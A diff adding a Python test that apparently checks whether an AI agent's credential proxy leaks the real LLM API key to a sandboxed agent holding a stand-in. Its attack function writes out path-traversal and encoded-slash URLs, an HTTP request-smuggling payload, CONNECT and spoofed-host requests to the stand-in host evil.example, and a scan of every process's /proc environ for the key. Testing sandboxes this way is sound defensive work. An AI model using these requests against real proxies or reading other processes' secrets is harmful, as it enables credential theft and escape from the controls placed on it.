@@ -1,0 +1,89 @@
+"""Gets at the key of the LLM, or at what else it opens: other paths, other hosts, other processes' memory of it.
+
+The agent has a stand-in for the key; with that it gets answers of the LLM from one provider, and nothing else.
+"""
+
+import json
+import os
+import socket
+from contextlib import suppress
+from pathlib import Path
+from urllib.parse import urlsplit
+
+LEVEL = "run"
+KEY = "pk-Aa1Bb2Cc3Dd4Ee5Ff6Gg7Hh8Ii9Jj0"
+PATHS = (
+    "/v1/files", "/v1/batches", "/v1/../v1/files", "/v1/messages/../files", "/v1/messages%2f..%2ffiles", "//evil/v1/x",
+    "/v1/fine_tuning/jobs", "/v1/organization/api_keys", "/v1/models/a/../../files", "/v1/messages/batches", "/",
+)  # fmt: skip
+SMUGGLED = b"0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n"
+
+
+def prepare(stack, folder):
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    class Provider(BaseHTTPRequestHandler):
+        def answer(self):
+            with (folder.parent / "asked.jsonl").open("a") as file:
+                file.write(json.dumps([self.command, self.path]) + "\n")
+            body = json.dumps({"error": f"no such key: {self.headers.get('x-api-key')}"}).encode()
+            self.send_response(401)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_GET = do_POST = do_PUT = do_DELETE = answer
+
+        def log_message(self, *_):
+            return
+
+    server = stack.enter_context(ThreadingHTTPServer(("127.0.0.1", 0), Provider))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    stack.callback(server.shutdown)
+    url = f"http://127.0.0.1:{server.server_address[1]}"
+    names = ["LLM_KEY"]
+    agent = {"driver": "d", "base_url": "http://127.0.0.1:9", "env": {"WHERE": "{base_url}"}}
+    agent |= {"forward_env": names, "needs_one_of": names}
+    return {"agent": agent, "environ": {"LLM_KEY": KEY}, "spec": {"base_url": url}}
+
+
+def attack(scene):
+    heard = [os.environ["LLM_KEY"].encode()]
+    stand_in = os.environ["LLM_KEY"]
+    headers = f"Host: evil.example\r\nX-Api-Key: {stand_in}\r\nX-Forwarded-Host: evil.example\r\n"
+    for method in ("GET", "POST", "PUT", "DELETE"):
+        for path in PATHS:
+            heard.append(say(f"{method} {path} HTTP/1.1\r\n{headers}Content-Length: 2\r\n\r\n{{}}".encode()))
+    two = (
+        f"POST /v1/messages HTTP/1.1\r\n{headers}Content-Length: {len(SMUGGLED)}\r\nTransfer-Encoding: chunked\r\n\r\n"
+    )
+    heard.append(say(two.encode() + SMUGGLED))
+    heard.append(say(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"))
+    heard.append(say(b"POST http://evil.example/v1/messages HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"))
+    heard.append(say(f"POST /v1/messages HTTP/1.1\r\n{headers}Content-Length: 2\r\n\r\n{{}}".encode()))
+    for process in Path("/proc").iterdir():
+        if process.name.isdigit():
+            for name in ("environ", "cmdline"):
+                with suppress(OSError):
+                    heard.append((process / name).read_bytes())
+    if not any(KEY.encode() in each for each in heard):
+        raise PermissionError("none of it holds the key")
+
+
+def say(request):
+    place = urlsplit(os.environ["WHERE"])
+    with suppress(OSError), socket.create_connection((place.hostname, place.port), timeout=5) as client:
+        client.sendall(request)
+        client.shutdown(socket.SHUT_WR)
+        return b"".join(iter(lambda: client.recv(4096), b""))
+    return b""
+
+
+def held(after):
+    asked = after.run.root.parents[1] / "scripts" / "asked.jsonl"
+    lines = [json.loads(line) for line in asked.read_text().splitlines()] if asked.exists() else []
+    asked.unlink(missing_ok=True)
+    if others := [line for line in lines if line != ["POST", "/v1/messages"]]:
+        return f"the provider was asked for {others[:3]}"
+    return "" if after.got is None else "it has the key"
